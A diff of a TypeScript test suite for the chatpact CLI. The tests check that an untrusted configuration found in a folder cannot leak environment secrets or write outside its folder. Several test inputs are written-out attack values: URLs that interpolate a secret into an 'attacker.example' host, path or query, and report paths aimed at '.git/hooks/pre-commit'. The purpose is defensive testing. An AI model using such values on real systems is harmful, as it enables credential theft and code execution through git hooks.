@@ -9,28 +9,28 @@ import { serve } from '../serve.ts';
 import { workInFolder } from './folder.ts';
 import { runCli } from './run-cli.ts';
 
-// A configuration that lies in the folder may have come with a foreign checkout. Each attack has a twin that is right.
+// A configuration in the folder may come from a foreign checkout. Each refused attack has an allowed counterpart.
 
 const secret = 'hunter2-hunter2-of-another-program';
 const folder = workInFolder({ ...twinCredentials, OTHER_SECRET: secret });
 const from = (variable: string) => `\${${variable}}`;
 
-let twin: Awaited<ReturnType<typeof startReferenceServer>>;
+let referenceServer: Awaited<ReturnType<typeof startReferenceServer>>;
 let document: string;
-/** A server of the attacker's: what it was asked, headers and all. */
+/** Requests that the server of the attacker received, with their headers. */
 let asked: string[] = [];
 let attacker: Awaited<ReturnType<typeof serve>>;
 
 beforeAll(async () => {
   document = readFileSync(await writeReferenceDocument('rocketchat'), 'utf8');
-  twin = await startReferenceServer();
+  referenceServer = await startReferenceServer();
   attacker = await serve((request, response) => {
     asked.push(`${request.url} ${JSON.stringify(request.headers)}`);
     response.writeHead(404).end();
   });
 });
 afterAll(async () => {
-  await twin.close();
+  await referenceServer.close();
   await attacker.close();
 });
 beforeEach(() => {
@@ -39,12 +39,12 @@ beforeEach(() => {
 });
 
 const config = 'chatpact.config.yaml';
-/** Writes the configuration: a target, and what stands in it besides. */
-const write = (settings: string, url = twin.url) =>
+/** Writes a configuration with one target and additional settings. */
+const write = (settings: string, url = referenceServer.url) =>
   folder.write(config, `targets:\n  staging:\n    url: ${url}\n    vendor: rocketchat\n    ${settings}\n`);
 const quick = 'retries: 0, maxRequests: 3, requestTimeout: 5';
 const short = quick.replaceAll(', ', '\n    ');
-/** Every file below the folder but the configuration, with its text. */
+/** Returns the text of every file in the folder, except for the configuration. */
 const written = () =>
   readdirSync(folder.path, { recursive: true, encoding: 'utf8', withFileTypes: true })
     .filter((entry) => entry.isFile() && entry.name !== config)
@@ -56,17 +56,17 @@ async function check(...words: string[]) {
   return { exitCode, stdout, stderr, all: `${stdout}\n${stderr}\n${written()}\n${asked.join('\n')}` };
 }
 
-describe('A configuration that was found sends no variable of other programs', () => {
+describe('A found configuration', () => {
   const place = `${from('OTHER_SECRET')}`;
   test.each<[what: string, url: (base: string) => string, settings: string, key: string]>([
     ['in the path of a target', (base) => `${base}/${place}`, short, 'url'],
-    ['as the host of a target', () => `http://${place}.attacker.example`, short, 'url'],
-    ['in its query', (base) => `${base}/?q=${place}`, short, 'url'],
-    ['as its user', (base) => base.replace('//', `//${place}@`), short, 'url'],
-    ['as a default that is not needed', (base) => `${base}/\${OTHER_SECRET:-x}`, short, 'url'],
+    ['in the host of a target', () => `http://${place}.attacker.example`, short, 'url'],
+    ['in the query of a target', (base) => `${base}/?q=${place}`, short, 'url'],
+    ['as the user of a target', (base) => base.replace('//', `//${place}@`), short, 'url'],
+    ['with an unused default', (base) => `${base}/\${OTHER_SECRET:-x}`, short, 'url'],
     ['to a console', (base) => base, `console: http://127.0.0.1:9/${place}`, 'console'],
-    ['to where a document is', (base) => base, `spec: http://127.0.0.1:9/${place}.yaml`, 'spec'],
-    ['to where a ledger is', (base) => base, `overlay: ['http://127.0.0.1:9/?${place}']`, 'overlay.0'],
+    ['in the URL of a document', (base) => base, `spec: http://127.0.0.1:9/${place}.yaml`, 'spec'],
+    ['in the URL of a ledger', (base) => base, `overlay: ['http://127.0.0.1:9/?${place}']`, 'overlay.0'],
     ['as an id', (base) => base, `ids: { room: '${place}' }`, 'ids.room'],
     [
       'as the value of a parameter',
@@ -75,8 +75,8 @@ describe('A configuration that was found sends no variable of other programs', (
       'operations.get-channels.parameters.query',
     ],
     ['in the name of a report', (base) => base, `reports: ['json=out-${place}.json']`, 'reports.0'],
-    ['in the name of proposals', (base) => base, `proposeOverlay: '${place}.yaml'`, 'proposeOverlay'],
-  ])('%s', async (_, toUrl, settings, key) => {
+    ['in the name of a file for proposals', (base) => base, `proposeOverlay: '${place}.yaml'`, 'proposeOverlay'],
+  ])('does not send a variable of another program %s', async (_, toUrl, settings, key) => {
     write(settings, toUrl(attacker.url));
     for (const words of [['staging'], ['--all'], ['staging', '--dry-run']]) {
       const { exitCode, stderr, all } = await check(...words);
@@ -95,7 +95,7 @@ describe('A configuration that was found sends no variable of other programs', (
     ['CHATPACT_ADMIN_TOKEN', 'and CHATPACT_ADMIN_TOKEN holds a credential'],
     ['CHATPACT_LOG', 'and CHATPACT_LOG holds a credential'],
     ['CHATPACT_OTHER_PASSWORD', 'and CHATPACT_OTHER_PASSWORD holds a credential'],
-  ])('nor %s in a URL', async (name, reason) => {
+  ])('does not send %s in a URL', async (name, reason) => {
     vi.stubEnv(name, secret);
     write(short, `${attacker.url}/${from(name)}`);
     const { exitCode, stderr } = await check('staging');
@@ -107,43 +107,43 @@ describe('A configuration that was found sends no variable of other programs', (
     ['CHATPACT_ADMIN_TOKEN', 'and CHATPACT_ADMIN_TOKEN is only for this machine'],
     ['CHATPACT_LOG', 'and CHATPACT_LOG is only for this machine'],
     ['CHATPACT_KEY_PASSPHRASE', 'and CHATPACT_KEY_PASSPHRASE is only for this machine'],
-  ])('nor %s in the place of a credential', async (name, reason) => {
+  ])('does not send %s as a credential', async (name, reason) => {
     vi.stubEnv(name, secret);
     write(`env: { CHATPACT_ROCKETCHAT_TOKEN: ${name} }`, attacker.url);
     const { exitCode, stderr, all } = await check('staging');
     expect([exitCode, stderr]).toEqual([2, expect.stringContaining(reason)]);
     expect(stderr).toMatch(/config\.yaml:5: targets\.staging\.env\.CHATPACT_ROCKETCHAT_TOKEN takes /);
     expect(all).not.toContain(secret);
-    // What is named is trusted, as the command line is.
+    // A configuration that --config names is trusted.
     await check('staging', '--config', config, '--retries', '0');
     expect(asked.join()).toContain(secret);
   });
 
-  test('and tells the doctor nothing of them', async () => {
+  test('sends no variable of another program in chatpact doctor', async () => {
     write(short, `${attacker.url}/${place}`);
     const { stdout, stderr, exitCode } = await runCli('doctor', 'staging', '--port', '0');
     expect([exitCode, asked]).toEqual([2, []]);
     expect(stdout + stderr).not.toContain(secret);
   });
 
-  test('but those called CHATPACT_…, to where they are meant to go', async () => {
-    vi.stubEnv('CHATPACT_STAGING_URL', twin.url);
+  test('sends CHATPACT_* variables as URL and credentials', async () => {
+    vi.stubEnv('CHATPACT_STAGING_URL', referenceServer.url);
     vi.stubEnv('CHATPACT_STAGING_TOKEN', twinCredentials.CHATPACT_ROCKETCHAT_TOKEN);
     vi.stubEnv('CHATPACT_ROCKETCHAT_TOKEN', 'of-another-server');
     const more = `spec: api.yaml\n    env: { CHATPACT_ROCKETCHAT_TOKEN: CHATPACT_STAGING_TOKEN }\n    maxRequests: 9`;
     write(more, from('CHATPACT_STAGING_URL'));
     const { exitCode, stdout, stderr } = await check('staging');
     expect([exitCode, stderr]).toEqual([4, '']);
-    expect(stdout).toContain(`Checking ${twin.url}/ against the contract of rocketchat.`);
+    expect(stdout).toContain(`Checking ${referenceServer.url}/ against the contract of rocketchat.`);
   });
 
-  test('and takes numbers, times and choices from any, since they are held to their form', async () => {
+  test('takes numbers, times and choices from any variable, and validates their form', async () => {
     const typed = { DAY: '2026-01-01', BUDGET: '2', KIND: 'rocketchat', IS_STRICT: 'true' };
     for (const [name, value] of Object.entries(typed)) vi.stubEnv(name, value);
     const settings = `since: ${from('DAY')}, maxRequests: ${from('BUDGET')}, vendor: ${from('KIND')}, strict: ${from('IS_STRICT')}`;
     folder.write(
       config,
-      `targets: { staging: { url: ${twin.url}, spec: api.yaml, ${settings.replaceAll(/\$\{\w+\}/g, "'$&'")} } }`,
+      `targets: { staging: { url: ${referenceServer.url}, spec: api.yaml, ${settings.replaceAll(/\$\{\w+\}/g, "'$&'")} } }`,
     );
     const { exitCode, stdout } = await check('staging', '--report', 'json', '--until', '2026-01-09');
     expect(exitCode).toBe(4);
@@ -157,18 +157,18 @@ describe('A configuration that was found sends no variable of other programs', (
     ]);
   });
 
-  test('and judges only the target that is asked for', async () => {
+  test('refuses only settings of the target in use', async () => {
     const other = `  other: { url: 'http://127.0.0.1:9/${place}', vendor: chatwoot }\n`;
     folder.write(
       config,
-      `targets:\n${other}  staging: { url: '${twin.url}', vendor: rocketchat, spec: api.yaml, ${quick} }\n`,
+      `targets:\n${other}  staging: { url: '${referenceServer.url}', vendor: rocketchat, spec: api.yaml, ${quick} }\n`,
     );
     expect((await check('staging')).exitCode).toBe(4);
     expect((await check('other')).exitCode).toBe(2);
   });
 });
 
-describe('What a named configuration took from the environment', () => {
+describe('A value from the environment', () => {
   const reports = ['pretty', 'json', 'junit', 'html', 'markdown', 'sarif', 'github'];
   const files = reports.flatMap((name) => ['--report', `${name}=out/${name}`]);
   const skip = `operations: { ${messagesSent}: { skip: 'as ${from('OTHER_SECRET')} says' } }`;
@@ -177,7 +177,7 @@ describe('What a named configuration took from the environment', () => {
   test.each([
     ['found', []],
     ['named', ['--config', config]],
-  ])('stands in no report, plan or recording: %s', async (_, flags) => {
+  ])('is redacted in reports, plans and recordings of a %s configuration', async (_, flags) => {
     write(settings);
     const { exitCode, all } = await check('staging', ...flags, ...files, '--record', 'kept');
     expect(exitCode).toBe(0);
@@ -188,7 +188,7 @@ describe('What a named configuration took from the environment', () => {
     expect(plan.all).not.toContain(secret);
   });
 
-  test('stands in no report where it was in the path of a URL; the address of the server does', async () => {
+  test('is redacted in the path of a URL, but not as the address of the server', async () => {
     vi.stubEnv('STAGING_URL', attacker.url);
     write(`retries: 0`, `${from('STAGING_URL')}/${from('OTHER_SECRET')}`);
     const { stdout, stderr } = await check('staging', '--config', config, ...files);
@@ -198,10 +198,10 @@ describe('What a named configuration took from the environment', () => {
     expect(readFileSync('out/json', 'utf8')).toContain(`${attacker.url}/${from('OTHER_SECRET')}`);
   });
 
-  test('is sent to no console, and stands in no complaint about one', async () => {
-    const told: string[] = [];
+  test('is not sent to a console, and redacted in a warning about the console', async () => {
+    const received: string[] = [];
     const console = await serve(async (request, response) => {
-      for await (const chunk of request) told.push(String(chunk));
+      for await (const chunk of request) received.push(String(chunk));
       response.writeHead(500).end();
     });
     onTestFinished(() => console.close());
@@ -209,13 +209,13 @@ describe('What a named configuration took from the environment', () => {
     const line = `console: ${console.url}/${from('OTHER_SECRET')}\n    retries: 0`;
     write(line, `${from('STAGING_URL')}/${from('OTHER_SECRET')}`);
     const { stderr } = await check('staging', '--config', config);
-    expect(stderr).toContain(`the console at ${console.url}/${from('OTHER_SECRET')} does not show`);
-    expect(told.join()).toContain(`"target":"${attacker.url}/${from('OTHER_SECRET')}`);
-    expect(told.join() + stderr).not.toContain(secret);
+    expect(stderr).toContain(`the console at ${console.url}/${from('OTHER_SECRET')} does not receive`);
+    expect(received.join()).toContain(`"target":"${attacker.url}/${from('OTHER_SECRET')}`);
+    expect(received.join() + stderr).not.toContain(secret);
   });
 });
 
-describe('A configuration that was found stays in its folder', () => {
+describe('A found configuration stays in its folder', () => {
   const away = join('..', 'elsewhere.yaml');
   test.each<[what: string, settings: string, setting: string]>([
     ['credentials', `credentials: ${away}`, 'credentials'],
@@ -230,7 +230,7 @@ describe('A configuration that was found stays in its folder', () => {
     ['a report through a link', `reports: ['json=link/out.json']`, 'reports'],
     ['a report through a link to nothing yet', `reports: ['json=nowhere/out.json']`, 'reports'],
     ['credentials through a link', 'credentials: link.env', 'credentials'],
-  ])('with %s', async (_, settings, setting) => {
+  ])('refuses %s outside the folder', async (_, settings, setting) => {
     mkdirSync('away');
     folder.write('away/other.env', 'CHATPACT_ROCKETCHAT_TOKEN=of-another-program');
     mkdirSync('project');
@@ -250,14 +250,14 @@ describe('A configuration that was found stays in its folder', () => {
     expect(readdirSync('../away')).toEqual(['other.env']);
   });
 
-  test.each([['.git/hooks/pre-commit'], ['.GIT/config']])('and writes nothing that git runs: %s', async (path) => {
+  test.each([['.git/hooks/pre-commit'], ['.GIT/config']])('refuses to write to .git: %s', async (path) => {
     folder.write('.git/config', 'mine');
     write(`reports: ['markdown=${path}']`);
     const { exitCode, stderr } = await check('staging');
     expect([exitCode, stderr]).toEqual([2, expect.stringContaining('is inside .git')]);
   });
 
-  test('where it reads and writes as it likes', async () => {
+  test('reads and writes files inside its folder', async () => {
     folder.write(
       'staging.env',
       Object.entries(twinCredentials)
@@ -272,12 +272,12 @@ describe('A configuration that was found stays in its folder', () => {
     expect(readdirSync('deep')).toEqual(['staging.json']);
   });
 
-  test('unless it is named', async () => {
+  test('may use other folders when --config names it', async () => {
     mkdirSync('project');
     process.chdir('project');
     folder.write(
       `project/${config}`,
-      `targets: { staging: { url: '${twin.url}', vendor: rocketchat, spec: ../api.yaml, reports: ['json=../out.json'], ${quick} } }`,
+      `targets: { staging: { url: '${referenceServer.url}', vendor: rocketchat, spec: ../api.yaml, reports: ['json=../out.json'], ${quick} } }`,
     );
     expect((await check('staging')).exitCode).toBe(2);
     const { exitCode, stderr } = await check('staging', '--config', config);
@@ -289,14 +289,14 @@ describe('A configuration that was found stays in its folder', () => {
 });
 
 describe('A URL on the command line', () => {
-  const url = () => [twin.url, '--vendor', 'rocketchat', '--max-requests', '3'];
+  const url = () => [referenceServer.url, '--vendor', 'rocketchat', '--max-requests', '3'];
 
-  test('is told which document, baseline and console it gets from a configuration that was found', async () => {
+  test('prints which settings of a found configuration apply', async () => {
     folder.write(config, `defaults: { spec: api.yaml, console: '${attacker.url}', reports: ['json=out.json'] }`);
     const { stderr, exitCode } = await check(...url());
     expect(exitCode).toBe(4);
     expect(stderr).toContain(`chatpact: ${config} was found here, and sets spec and console.\n`);
-    // Nothing to tell: the user says so, or says which file.
+    // No notice: the user passed the settings, or named the file.
     const flags = ['--spec', 'api.yaml', '--console', attacker.url];
     expect((await check(...url(), ...flags)).stderr).not.toContain('was found here');
     expect((await check(...url(), '--config', config)).stderr).not.toContain('was found here');
@@ -304,7 +304,7 @@ describe('A URL on the command line', () => {
     expect((await check(...url(), '--spec', 'api.yaml')).stderr).toBe('');
   });
 
-  test('is neither written to nor believed without a certificate because a file was found', async () => {
+  test('ignores allowWrites, insecure and cacert of a found configuration', async () => {
     folder.write(config, 'defaults: { allowWrites: true, insecure: true, cacert: ca.pem }');
     const plan = async (...flags: string[]) => (await check(...url(), '--dry-run', ...flags)).stdout;
     const { stderr, exitCode } = await check(...url());
@@ -317,18 +317,18 @@ describe('A URL on the command line', () => {
     expect((await check(...url(), '--config', config)).stderr).toContain("Can't read ");
   });
 
-  test('a target of the same file is', async () => {
+  test('applies allowWrites to a target of the same file', async () => {
     write('spec: api.yaml\n    allowWrites: true\n    maxRequests: 3');
     expect(await check('staging')).toMatchObject({ exitCode: 4, stderr: '' });
   });
 });
 
-describe('The token of a mock', () => {
+describe('The admin token of a mock', () => {
   const token = 'the-token-of-a-mock';
-  /** An address of this machine that is not loopback's. */
+  /** An address that is not loopback. */
   const elsewhere = 'http://192.0.2.1:4010';
 
-  test('and findings go to no console of another machine that a found configuration names', async () => {
+  test('is not sent to a console on another machine that a found configuration names', async () => {
     vi.stubEnv('CHATPACT_ADMIN_TOKEN', token);
     write(`spec: api.yaml\n    console: ${elsewhere}\n    maxRequests: 3`);
     const { exitCode, stderr } = await check('staging');
@@ -339,9 +339,9 @@ describe('The token of a mock', () => {
   });
 
   test.each([
-    ['a console of this machine', (url: string) => ({ settings: `console: ${url}`, flags: [] as string[] })],
-    ['one that the command line names', (url: string) => ({ settings: 'workers: 1', flags: ['--console', url] })],
-  ])('go to %s', async (_, toCase) => {
+    ['a console on this machine', (url: string) => ({ settings: `console: ${url}`, flags: [] as string[] })],
+    ['a console of the command line', (url: string) => ({ settings: 'workers: 1', flags: ['--console', url] })],
+  ])('is sent to %s', async (_, toCase) => {
     vi.stubEnv('CHATPACT_ADMIN_TOKEN', token);
     const { settings, flags } = toCase(attacker.url);
     write(`spec: api.yaml\n    maxRequests: 3\n    ${settings}`);
